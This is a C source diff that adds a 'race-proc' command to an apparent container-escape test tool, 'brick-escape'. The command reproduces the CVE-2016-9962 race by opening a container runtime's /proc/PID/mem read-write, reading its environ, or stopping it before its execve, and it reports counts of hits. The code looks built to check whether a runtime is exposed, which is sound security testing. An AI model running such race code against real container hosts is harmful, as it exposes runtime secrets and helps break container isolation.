@@ -169,6 +169,143 @@ static int cmd_exe_hold(const char *path, const char *outfile)
     _exit(0);
 }
 
+/* CVE-2016-9962: race every new process of this pid namespace while it is
+ * still the runtime (comm "brick", before its execve) for /proc/PID/mem
+ * (read-write) and /proc/PID/environ (looking for marker), or SIGSTOP it
+ * (stop=1). Runs until the file `until` exists; prints
+ * "OK seen=N runtime=N mem=N environ=N stopped=N". */
+static int read_small(const char *path, char *buf, size_t size)
+{
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return -1;
+    ssize_t n = read(fd, buf, size - 1);
+    close(fd);
+    if (n < 0)
+        return -1;
+    buf[n] = '\0';
+    return (int)n;
+}
+
+static int mem_has(int pid, int mfd, const char *marker)
+{
+    char path[64], maps[16384];
+    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+    if (read_small(path, maps, sizeof(maps)) <= 0)
+        return 0;
+    for (char *line = maps; line && *line;) {
+        char *next = strchr(line, '\n');
+        if (next)
+            *next++ = '\0';
+        unsigned long lo, hi;
+        char perm[8];
+        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) == 3 && perm[0] == 'r' && perm[1] == 'w' &&
+            hi - lo <= (64UL << 20)) {
+            static char chunk[1 << 16];
+            size_t ml = strlen(marker);
+            for (unsigned long at = lo; at < hi; at += sizeof(chunk) - ml) {
+                size_t len = hi - at < sizeof(chunk) ? hi - at : sizeof(chunk);
+                ssize_t n = pread(mfd, chunk, len, (off_t)at);
+                if (n <= 0)
+                    break;
+                if (memmem(chunk, (size_t)n, marker, ml))
+                    return 1;
+            }
+        }
+        line = next;
+    }
+    return 0;
+}
+
+/* One try at pid; 1 while it is still the runtime (try again), 0 once
+ * done with it. */
+static int race_one(int pid, const char *marker, int stop, unsigned char *flags, unsigned long *c)
+{
+    char path[64], comm[64], data[16384];
+    snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+    if (read_small(path, comm, sizeof(comm)) < 0 || strncmp(comm, "brick", 5) != 0)
+        return 0;
+    if (!(*flags & 1)) {
+        *flags |= 1;
+        c[1]++; /* runtime */
+    }
+    if (stop && !(*flags & 2) && kill(pid, SIGSTOP) == 0) {
+        *flags |= 2;
+        c[4]++;
+    }
+    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+    int mfd = open(path, O_RDWR | O_CLOEXEC);
+    if (mfd >= 0) {
+        /* opened on the runtime's memory, or on the program it exec'd a
+         * moment later? The fd keeps the memory map of its opening: the
+         * runtime's heap holds the container's config (with marker in an
+         * annotation), which no program of the container ever sees. */
+        if (mem_has(pid, mfd, marker) && !(*flags & 4)) {
+            *flags |= 4;
+            c[2]++;
+        }
+        close(mfd);
+    }
+    snprintf(path, sizeof(path), "/proc/%d/environ", pid);
+    int len = read_small(path, data, sizeof(data));
+    for (int i = 0; i < len; i++)
+        if (data[i] == '\0')
+            data[i] = '\n';
+    if (len > 0 && strstr(data, marker) && !(*flags & 8)) {
+        *flags |= 8;
+        c[3]++;
+    }
+    return 1;
+}
+
+static int cmd_race_proc(const char *until, const char *marker, int stop)
+{
+    static unsigned char state[1 << 22]; /* bit 0x80: seen */
+    static int active[4096];
+    int n_active = 0;
+    unsigned long c[5] = {0}; /* seen runtime mem environ stopped */
+    pid_t self = getpid();
+    for (unsigned long loop = 0;; loop++) {
+        if ((loop & 63) == 0 && access(until, F_OK) == 0)
+            break;
+        /* the runtime processes seen so far, again: each is tried until it
+         * exec'd or died (the hole opens at its identity switch) */
+        for (int i = 0; i < n_active;) {
+            if (race_one(active[i], marker, stop, &state[active[i]], c))
+                i++;
+            else
+                active[i] = active[--n_active];
+        }
+        int dfd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        if (dfd < 0)
+            return res(-1);
+        char buf[8192];
+        long n;
+        while ((n = syscall(SYS_getdents64, dfd, buf, sizeof(buf))) > 0) {
+            for (long off = 0; off < n;) {
+                struct {
+                    unsigned long long ino;
+                    long long off;
+                    unsigned short reclen;
+                    unsigned char type;
+                    char name[];
+                } *d = (void *)(buf + off);
+                off += d->reclen;
+                int pid = atoi(d->name);
+                if (pid <= 1 || pid == self || pid >= (int)sizeof(state) || (state[pid] & 0x80))
+                    continue;
+                state[pid] |= 0x80;
+                c[0]++;
+                if (race_one(pid, marker, stop, &state[pid], c) && n_active < 4096)
+                    active[n_active++] = pid;
+            }
+        }
+        close(dfd);
+    }
+    printf("OK seen=%lu runtime=%lu mem=%lu environ=%lu stopped=%lu\n", c[0], c[1], c[2], c[3], c[4]);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     if (argc < 2)
@@ -209,6 +346,8 @@ int main(int argc, char **argv)
         return cmd_exe_write(argv[2]);
     if (!strcmp(c, "exe-hold") && argc == 4)
         return cmd_exe_hold(argv[2], argv[3]);
+    if (!strcmp(c, "race-proc") && argc == 5)
+        return cmd_race_proc(argv[2], argv[3], atoi(argv[4]));
     fprintf(stderr, "brick-escape: bad usage\n");
     return 64;
 }
